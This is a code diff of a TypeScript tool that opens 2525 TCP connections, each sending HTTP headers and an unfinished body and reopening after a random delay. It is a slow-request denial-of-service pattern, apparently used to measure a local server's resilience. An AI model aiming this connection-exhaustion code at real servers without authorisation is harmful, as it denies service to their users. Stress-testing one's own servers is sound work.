@@ -4,7 +4,8 @@ import { connect } from 'node:net';
 export type Attack = { url: string; method: string; path: string; cookie?: string };
 
 const connections = 2525;
-const againMs = 5000;
+/** A closed connection is opened again within this time, at random: all at once would measure how a burst is accepted. */
+const againMs = 10_000;
 const localAddress = '127.0.0.2';
 
 function begin({ url, method, path, cookie }: Attack): void {
@@ -25,7 +26,7 @@ function begin({ url, method, path, cookie }: Attack): void {
     });
     socket.once('connect', () => socket.write(`${head.join('\r\n')}\r\n\r\n{`));
     socket.on('error', () => undefined).resume();
-    socket.once('close', () => setTimeout(open, againMs));
+    socket.once('close', () => setTimeout(open, againMs * Math.random()));
   };
   for (let count = 0; count < connections; count += 1) open();
   // By then every connection is open, or has been refused once.
